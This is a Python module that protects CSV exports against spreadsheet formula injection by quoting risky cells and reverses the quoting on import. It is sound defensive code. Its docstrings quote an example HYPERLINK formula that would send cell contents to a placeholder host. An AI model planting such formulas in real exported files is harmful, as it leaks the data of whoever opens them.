"""Spreadsheet-safe CSV cells (OWASP's rule against formula injection), and the way back.

A spreadsheet opening a CSV runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula, and a tab or carriage return can start one too: a quote in a publication reading
``=HYPERLINK("http://x/?"&A1, "source")`` would become a link that sends the sheet's cells
away. OWASP's rule: put a single quote in front of such a cell, which spreadsheets read as
"this is text".

Every CSV the tool writes (``export --format csv``, ``search --format csv``, ``review
export``) passes its rows through :func:`safe_row` unless asked for raw cells (``--raw-csv``);
every CSV it reads back passes its cells through :func:`restore`, so a round trip gives back
exactly the text that was written.

Only text is neutralised: a number (a figure of -5 stored as a number) stays a number.
Text whose leading quotes are followed by a formula character gets one more quote, so
:func:`restore` (which removes one) is exact even for text that itself begins ``'=``.
"""
from __future__ import annotations

from typing import Any, Mapping

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def _runs_as_formula(text: str) -> bool:
    return text.lstrip(TEXT_MARK).startswith(FORMULA_STARTS)


def spreadsheet_safe(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is text a spreadsheet would run as a formula.

    Examples
    --------
    >>> spreadsheet_safe('=HYPERLINK("http://x","y")')
    '\\'=HYPERLINK("http://x","y")'
    >>> spreadsheet_safe("-5"), spreadsheet_safe(-5), spreadsheet_safe("Aid was blocked.")
    ("'-5", -5, 'Aid was blocked.')
    """
    if isinstance(value, str) and _runs_as_formula(value):
        return TEXT_MARK + value
    return value


def restore(value: Any) -> Any:
    """The original of a cell written by :func:`spreadsheet_safe` (other cells unchanged).

    A cell edited in a spreadsheet and saved again may come back without the quote
    (``=x``): it is already the original and stays as it is.

    Examples
    --------
    >>> restore("'=1+2"), restore("=1+2"), restore("'quoted'"), restore(3)
    ('=1+2', '=1+2', "'quoted'", 3)
    """
    if isinstance(value, str) and value.startswith(TEXT_MARK) and _runs_as_formula(value):
        return value[1:]
    return value


def safe_row(row: Mapping[str, Any], raw: bool = False) -> dict[str, Any]:
    """A CSV row with every cell made spreadsheet-safe (``raw``: cells exactly as given)."""
    return dict(row) if raw else {key: spreadsheet_safe(value) for key, value in row.items()}


def restored_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row read from a CSV with every cell :func:`restore`-d."""
    return {key: restore(value) for key, value in row.items()}
